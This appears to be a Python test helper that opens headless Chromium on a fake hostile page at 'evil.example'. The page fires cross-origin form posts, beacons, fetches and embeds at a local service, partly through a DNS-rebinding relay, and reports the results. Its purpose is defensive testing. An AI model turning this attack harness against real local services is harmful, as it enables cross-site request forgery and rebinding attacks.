"""A web page of somebody else, in a real browser: the server it comes from, what it tries, and the browser."""

import json
import os
import queue
import shutil
import socket
import socketserver
import subprocess
import threading
from collections.abc import Iterator, Sequence
from contextlib import contextmanager, suppress
from pathlib import Path
from typing import Any

import pytest

HOST = "evil.example"
REQUIRED = "BROWSER_REQUIRED"  # set where a missing browser is a failure, not a reason to skip
FLAGS = (
    "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-sync",
    "--disable-background-networking", "--disable-component-update", "--disable-dev-shm-usage",
)  # fmt: skip
SECONDS = 90

# Every attack is tried, one after the other, and what the page learned is reported to its own server.
PAGE = """<!doctype html><html><body><script>
const attacks = ATTACKS;
const pause = milliseconds => new Promise(done => setTimeout(done, milliseconds));
function embed(tag, url) {
  return new Promise(done => {
    const element = document.createElement(tag);
    element.onload = () => done("loaded"); element.onerror = () => done("failed");
    element.src = url; document.body.append(element); setTimeout(() => done("nothing"), 3000);
  });
}
async function submit(attack) {
  const frame = document.createElement("iframe"); frame.name = "f" + Math.random(); document.body.append(frame);
  const form = document.createElement("form");
  Object.assign(form, {action: attack.url, method: "POST", target: frame.name, enctype: attack.enctype});
  for (const [name, value] of Object.entries(attack.fields)) {
    const input = document.createElement("input"); Object.assign(input, {name, value}); form.append(input);
  }
  document.body.append(form); form.submit(); await pause(1000); return "sent";
}
async function attempt(attack) {
  try {
    if (attack.kind == "form") return await submit(attack);
    if (attack.kind == "beacon") return String(navigator.sendBeacon(attack.url, attack.body));
    if (attack.kind != "fetch") return await embed(attack.kind, attack.url);
    const answer = await fetch(attack.url, attack.options);
    return answer.type == "opaque" ? "opaque" : String(answer.status);
  } catch (error) { return String(error.name); }
}
(async () => {
  const told = [];
  for (const attack of attacks) told.push(await attempt(attack));
  await pause(500);
  await fetch("/report", {method: "POST", body: JSON.stringify(told)});
})();
</script></body></html>"""


class ForeignServer(socketserver.ThreadingTCPServer):
    """Serves the page, takes its report, and hands everything else on to the cloud, as a rebound name does."""

    allow_reuse_address = True
    daemon_threads = True

    def __init__(self, cloud_port: int) -> None:
        self.cloud_port = cloud_port
        self.page = b""
        self.reports: queue.Queue[list[str]] = queue.Queue()
        try:  # the very port of the cloud, so that only the name in Host differs
            super().__init__(("127.0.0.2", cloud_port), _Connection)
        except OSError:  # there is one loopback address only, as on macOS
            super().__init__(("127.0.0.1", 0), _Connection)


class _Connection(socketserver.StreamRequestHandler):
    server: ForeignServer

    def handle(self) -> None:
        head = b"".join(iter(self.rfile.readline, b"\r\n"))
        if head.startswith(b"GET /page "):
            self._answer(self.server.page)
        elif head.startswith(b"POST /report "):
            (length,) = [line for line in head.lower().splitlines() if line.startswith(b"content-length:")]
            self.server.reports.put(json.loads(self.rfile.read(int(length.split(b":")[1]))))
            self._answer(b"thanks")
        elif head:
            self._relay(head)

    def _answer(self, body: bytes) -> None:
        head = f"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: {len(body)}\r\nConnection: close\r\n\r\n"
        self.wfile.write(head.encode() + body)

    def _relay(self, head: bytes) -> None:
        length = [int(line.split(b":")[1]) for line in head.lower().splitlines() if line.startswith(b"content-length:")]
        with socket.create_connection(("127.0.0.1", self.server.cloud_port), timeout=30) as cloud, suppress(OSError):
            cloud.sendall(head + b"\r\n" + self.rfile.read(sum(length)))
            while part := cloud.recv(65536):
                self.wfile.write(part)


@contextmanager
def foreign_server(cloud_port: int) -> Iterator[ForeignServer]:
    """Serve in a thread until the end of the block."""
    with ForeignServer(cloud_port) as server:
        thread = threading.Thread(target=server.serve_forever, args=(0.02,), daemon=True)
        thread.start()
        try:
            yield server
        finally:
            server.shutdown()
            thread.join()


def browser() -> str:
    """Return the browser's program; without one the test is skipped, or fails where one is required."""
    found = next(filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), None)
    if found is None and os.environ.get(REQUIRED):
        pytest.fail(f"{REQUIRED} is set, but there is no chromium")
    if found is None:
        pytest.skip(f"there is no chromium here; `apt-get install chromium` runs this test ({REQUIRED} demands it)")
    return found


def visit(server: ForeignServer, attacks: Sequence[dict[str, Any]], profile: Path) -> list[str]:
    """Open the page in a browser and return what it reports of each attack."""
    server.page = PAGE.replace("ATTACKS", json.dumps(attacks)).encode()
    address, port = server.server_address[:2]
    resolve = f"--host-resolver-rules=MAP {HOST} {address!s}"
    command = [browser(), *FLAGS, f"--user-data-dir={profile}", resolve, f"http://{HOST}:{port}/page"]
    with subprocess.Popen(command, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True) as run:
        try:
            return server.reports.get(timeout=SECONDS)
        finally:
            os.killpg(run.pid, 9)  # the session that was started above, and nothing else
